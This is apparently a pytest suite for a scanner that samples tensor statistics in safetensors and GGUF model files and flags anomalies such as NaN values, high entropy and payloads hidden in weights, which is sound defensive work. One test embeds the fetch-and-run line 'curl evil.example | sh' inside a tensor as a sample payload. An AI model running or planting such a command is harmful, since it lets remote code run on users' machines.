"""Sampled tensor statistics on files written by safetensors and gguf-py, and hidden payloads."""

from __future__ import annotations

import json
import os
import struct
from pathlib import Path

import gguf as gguf_py
import numpy as np
import pytest
from safetensors.numpy import save_file

from gate.formats import tensorstats
from gate.formats.interface import BytesBlob, FileBlob


def _bf16(x: np.ndarray) -> np.ndarray:
    return (x.astype(np.float32).view(np.uint32) >> 16).astype(np.uint16)


def _safetensors(path: Path, tensors: dict[str, np.ndarray]) -> bytes:
    save_file(tensors, str(path))
    return path.read_bytes()


def _normal_model(rng: np.random.Generator) -> dict[str, np.ndarray]:
    return {
        "embed.weight": (rng.standard_normal((512, 64)) * 0.02).astype(np.float32),
        "mlp.weight": rng.standard_normal((256, 128)).astype(np.float16),
        "head.weight": rng.standard_normal((64, 64)),
        "ln.weight": np.ones(64, np.float32),
        "ln.bias": np.zeros(64, np.float32),
        "ids": np.arange(100, dtype=np.int64),
        "q.weight": rng.integers(-128, 127, 8192, dtype=np.int8),
    }


def test_real_random_normal_model_passes_default_thresholds(tmp_path: Path) -> None:
    data = _safetensors(tmp_path / "m.safetensors", _normal_model(np.random.default_rng(0)))
    stats = tensorstats.safetensors_stats(BytesBlob(data))
    assert stats is not None
    assert tensorstats.anomalies(stats) == []
    by_name = {t.name: t for t in stats.tensors}
    embed = by_name["embed.weight"]
    assert embed.count == 512 * 64 // 4 * 4 or embed.count > 0
    assert embed.std is not None and 0.015 < embed.std < 0.025
    assert embed.entropy is not None and 6.0 < embed.entropy < 7.6
    assert by_name["ln.bias"].zero_fraction == 1.0 and by_name["ln.bias"].entropy == 0.0
    summary = stats.summary()
    json.dumps(summary)
    assert summary["nan"] == 0 and summary["sampled_tensors"] == 7


def test_bf16_values_are_decoded(tmp_path: Path) -> None:
    # safetensors.numpy cannot write bfloat16, so the header is written the same way by hand.
    values = np.linspace(-2, 2, 4096, dtype=np.float32)
    raw = _bf16(values).tobytes()
    header = json.dumps({"w": {"dtype": "BF16", "shape": [4096], "data_offsets": [0, len(raw)]}}).encode()
    data = struct.pack("<Q", len(header)) + header + raw
    stats = tensorstats.safetensors_stats(BytesBlob(data))
    assert stats is not None
    [t] = stats.tensors
    assert t.min == pytest.approx(-2.0) and t.max == pytest.approx(2.0)
    assert tensorstats.anomalies(stats) == []


@pytest.mark.parametrize("dtype", [np.float32, np.float16, np.float64])
def test_encrypted_payload_disguised_as_weights(tmp_path: Path, dtype: type) -> None:
    path = tmp_path / "m.safetensors"
    save_file({"w": np.zeros(32768, dtype)}, str(path))
    data = bytearray(path.read_bytes())
    n = 32768 * np.dtype(dtype).itemsize
    data[-n:] = os.urandom(n)  # e.g. an AES-encrypted archive in place of the weights
    stats = tensorstats.safetensors_stats(BytesBlob(bytes(data)))
    assert stats is not None
    checks = {f.check for f in tensorstats.anomalies(stats)}
    assert "tensorstats.entropy_high" in checks
    assert checks & {"tensorstats.nan", "tensorstats.inf", "tensorstats.abs_max"}


def test_text_stored_as_float_weights_is_not_numbers(tmp_path: Path) -> None:
    path = tmp_path / "m.safetensors"
    save_file({"w": np.zeros(1024, np.float32)}, str(path))
    data = bytearray(path.read_bytes())
    text = (b"import os; os.system('curl evil.example | sh')\n" * 100)[:4096]
    data[-4096:] = text
    stats = tensorstats.safetensors_stats(BytesBlob(bytes(data)))
    assert stats is not None
    findings = tensorstats.anomalies(stats)
    assert {f.code for f in findings} == {"weight_anomaly"}
    assert "tensorstats.abs_max" in {f.check for f in findings}


def test_nan_and_inf_are_counted(tmp_path: Path) -> None:
    w = np.ones(1000, np.float32)
    w[3] = np.nan
    w[7] = np.inf
    stats = tensorstats.safetensors_stats(BytesBlob(_safetensors(tmp_path / "m.safetensors", {"w": w})))
    assert stats is not None
    [t] = stats.tensors
    assert (t.nan, t.inf) == (1, 1)
    assert {f.check for f in tensorstats.anomalies(stats)} == {"tensorstats.nan", "tensorstats.inf"}
    assert tensorstats.anomalies(stats, {"max_nan": 5, "max_inf": 5}) == []
    json.dumps(stats.summary())


def test_thresholds_come_from_the_caller(tmp_path: Path) -> None:
    data = _safetensors(tmp_path / "m.safetensors", {"b": np.zeros(4096, np.float32)})
    stats = tensorstats.safetensors_stats(BytesBlob(data))
    assert stats is not None
    assert tensorstats.anomalies(stats) == []
    [f] = tensorstats.anomalies(stats, {"float_entropy_min": 0.5})
    assert (f.code, f.check) == ("entropy_anomaly", "tensorstats.entropy_low")


def test_reads_are_bounded_on_a_large_file(tmp_path: Path) -> None:
    path = tmp_path / "big.safetensors"
    save_file(
        {"w": np.zeros((1024, 1024), np.float32), "v": np.zeros(8 * 1024 * 1024, np.float16)}, str(path)
    )
    read = 0

    class Counting(FileBlob):
        def read_at(self, offset: int, length: int) -> bytes:
            nonlocal read
            out = super().read_at(offset, length)
            read += len(out)
            return out

    with open(path, "rb") as fh:
        stats = tensorstats.safetensors_stats(Counting(fh.fileno()))
    assert stats is not None and len(stats.tensors) == 2
    assert read < 2 * tensorstats.PER_TENSOR_BYTES + 4096
    assert all(t.sampled_bytes == tensorstats.PER_TENSOR_BYTES for t in stats.tensors)


def test_sample_positions_are_deterministic_and_spread() -> None:
    parts = tensorstats._positions(10_000_000, 65536, 4)
    assert len(parts) == tensorstats.CHUNKS
    assert parts[0][0] == 0 and parts[-1][0] + parts[-1][1] <= 10_000_000
    assert parts[-1][0] > 9_000_000 and all(off % 4 == 0 for off, _ in parts)
    assert parts == tensorstats._positions(10_000_000, 65536, 4)


def _gguf(path: Path, q8: np.ndarray | None = None) -> bytes:
    writer = gguf_py.GGUFWriter(str(path), "llama")
    rng = np.random.default_rng(1)
    writer.add_tensor("tok", (rng.standard_normal((64, 64)) * 0.02).astype(np.float32))
    writer.add_tensor("norm", rng.standard_normal(64).astype(np.float16))
    if q8 is None:
        q8 = np.zeros((8, 34), np.uint8)
        q8[:, 0:2] = np.frombuffer(np.float16(0.01).tobytes(), np.uint8)
        q8[:, 2:] = rng.integers(0, 255, (8, 32), dtype=np.uint8)
    writer.add_tensor("q", q8, raw_dtype=gguf_py.GGMLQuantizationType.Q8_0)
    writer.write_header_to_file()
    writer.write_kv_data_to_file()
    writer.write_tensors_to_file()
    writer.close()
    return path.read_bytes()


def test_gguf_stats_with_quantized_scales(tmp_path: Path) -> None:
    stats = tensorstats.gguf_stats(BytesBlob(_gguf(tmp_path / "m.gguf")))
    assert stats is not None
    by_name = {t.name: t for t in stats.tensors}
    assert by_name["q"].scales == 8 and by_name["q"].bad_scales == 0
    assert by_name["q"].count == 0 and by_name["q"].entropy is not None
    assert by_name["tok"].std is not None and 0.015 < by_name["tok"].std < 0.025
    assert tensorstats.anomalies(stats) == []


def test_gguf_random_bytes_as_quantized_blocks(tmp_path: Path) -> None:
    junk = np.frombuffer(os.urandom(256 * 34), np.uint8).reshape(256, 34).copy()
    junk[:5, 0:2] = 0xFF  # at least a few NaN scales, whatever the random draw
    stats = tensorstats.gguf_stats(BytesBlob(_gguf(tmp_path / "m.gguf", junk)))
    assert stats is not None
    assert "tensorstats.bad_scales" in {f.check for f in tensorstats.anomalies(stats)}


def test_unparseable_files_give_none() -> None:
    assert tensorstats.safetensors_stats(BytesBlob(b"\x00" * 4)) is None
    assert tensorstats.gguf_stats(BytesBlob(b"GGUF\x01\x00\x00\x00")) is None
